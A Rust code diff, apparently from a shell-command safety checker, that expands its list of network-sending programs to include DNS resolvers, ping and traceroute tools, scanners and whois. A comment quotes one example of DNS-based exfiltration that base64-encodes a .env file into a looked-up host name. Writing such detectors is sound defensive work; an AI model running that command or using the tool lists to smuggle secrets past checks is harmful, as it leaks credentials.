@@ -317,57 +317,67 @@ pub(crate) fn reads_file_urls(p: &str) -> bool {
     p == "aws"
 }
 
-/// Programs that send data over the network.
+/// Programs that send data over the network: their own senders, and the programs that look
+/// up host names ([`is_host_lookup`]), whose query carries the name to a DNS server.
 pub(crate) fn is_sender(p: &str) -> bool {
-    matches!(
-        p,
-        "curl"
-            | "wget"
-            | "nc"
-            | "ncat"
-            | "netcat"
-            | "socat"
-            | "telnet"
-            | "scp"
-            | "sftp"
-            | "rsync"
-            | "ssh"
-            | "ftp"
-            | "tftp"
-            | "lftp"
-            | "http"
-            | "https"
-            | "xh"
-            | "curlie"
-            | "mail"
-            | "mailx"
-            | "sendmail"
-            | "mutt"
-            | "gh"
-            | "s3cmd"
-            | "gsutil"
-            | "gcloud"
-            | "az"
-            | "rclone"
-            | "smbclient"
-            | "aws"
-            | "dig"
-            | "nslookup"
-            | "host"
-            | "ping"
-            | "aria2c"
-            | "httpie"
-            | "croc"
-            | "wormhole"
-            | "mosquitto_pub"
-            | "websocat"
-            | "wscat"
-            | "whois"
-            | "redis-cli"
-            | "kcat"
-            | "kafkacat"
-            | "grpcurl"
-    )
+    is_host_lookup(p)
+        || matches!(
+            p,
+            "curl"
+                | "wget"
+                | "nc"
+                | "ncat"
+                | "netcat"
+                | "socat"
+                | "telnet"
+                | "scp"
+                | "sftp"
+                | "rsync"
+                | "ssh"
+                | "ftp"
+                | "tftp"
+                | "lftp"
+                | "http"
+                | "https"
+                | "xh"
+                | "curlie"
+                | "mail"
+                | "mailx"
+                | "sendmail"
+                | "mutt"
+                | "gh"
+                | "s3cmd"
+                | "gsutil"
+                | "gcloud"
+                | "az"
+                | "rclone"
+                | "smbclient"
+                | "aws"
+                | "aria2c"
+                | "httpie"
+                | "croc"
+                | "wormhole"
+                | "mosquitto_pub"
+                | "websocat"
+                | "wscat"
+                | "redis-cli"
+                | "kcat"
+                | "kafkacat"
+                | "grpcurl"
+        )
+}
+
+name_set! {
+    /// Programs that look up the host names among their operands (resolvers, reachability and
+    /// route probes, scanners, key and registry queries): each look-up sends the name to a DNS
+    /// server, so a name built from a secret (`traceroute "$(base64 .env).example"`) carries
+    /// it out even when nothing else is sent.
+    pub(crate) fn is_host_lookup, HOST_LOOKUPS = [
+        "getent", "resolvectl", "systemd-resolve", "host", "nslookup", "dig", "drill", "kdig",
+        "delv", "dog", "doggo", "adnshost", "avahi-resolve", "avahi-resolve-host-name", "ping",
+        "ping4", "ping6", "fping", "hping3", "nping", "arping", "traceroute", "traceroute6",
+        "tracepath", "tracepath6", "tcptraceroute", "mtr", "nmap", "ssh-keyscan", "whois",
+    ]
 }
 
 name_set! {
@@ -482,8 +492,13 @@ mod tests {
             (is_pattern_first as fn(&str) -> bool, PATTERN_FIRST),
             (is_printer_name, PRINTERS),
             (is_interpreter_name, INTERPRETERS),
+            (is_host_lookup, HOST_LOOKUPS),
         ] {
             assert_name_set(is, list);
+        }
+        // A look-up sends the name it looks up.
+        for p in HOST_LOOKUPS {
+            assert!(is_sender(p), "{p}");
         }
     }
 }
